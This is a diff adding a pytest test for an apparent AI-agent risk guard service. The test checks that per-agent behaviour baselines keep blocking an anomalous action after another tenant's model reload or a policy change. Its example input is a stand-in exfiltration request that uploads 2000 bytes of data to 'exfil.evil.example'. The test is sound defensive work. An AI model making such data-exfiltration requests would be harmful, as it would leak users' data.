@@ -388,6 +388,25 @@ def test_models_list_and_reload(clients: Callable[..., httpx.Client], service: R
     assert 'risk_model_info{version="default-1"} 1.0' in clients(None).get("/metrics").text
 
 
+def test_a_reload_or_policy_change_keeps_every_agents_behavior_baseline(
+    clients: Callable[..., httpx.Client], tenant: str
+) -> None:
+    """Guards are rebuilt on a model reload (every tenant's) and a policy change; the baselines they score
+    against live with the state store, so another tenant's admin cannot reset them to a new agent's."""
+    admin, agent = clients(Role.ADMIN), clients(Role.AGENT)
+    put_policy(admin, {"max_risk_score": 0.6, "mode": "block"})
+    for i in range(12):
+        ok(agent.post("/v1/check", json={**ALLOWED, "action_type": "file_read", "resource": f"/reports/q{i}.csv"}))
+    odd = {**ALLOWED, "action_type": "network_request", "resource": "https://exfil.evil.example/upload",
+           "payload": {"data": "x" * 2000}}  # fmt: skip
+    before = ok(agent.post("/v1/check", json=odd))
+    assert before["allowed"] is False
+    ok(clients(Role.ADMIN, of=f"{tenant}-other").post("/v1/models/reload"))
+    assert ok(agent.post("/v1/check", json=odd))["risk_score"] >= before["risk_score"]
+    put_policy(admin, {"max_risk_score": 0.61, "mode": "block"})
+    assert ok(agent.post("/v1/check", json=odd))["allowed"] is False
+
+
 def test_admin_makes_lists_and_revokes_keys_of_its_tenant(
     clients: Callable[..., httpx.Client], service: Running
 ) -> None:
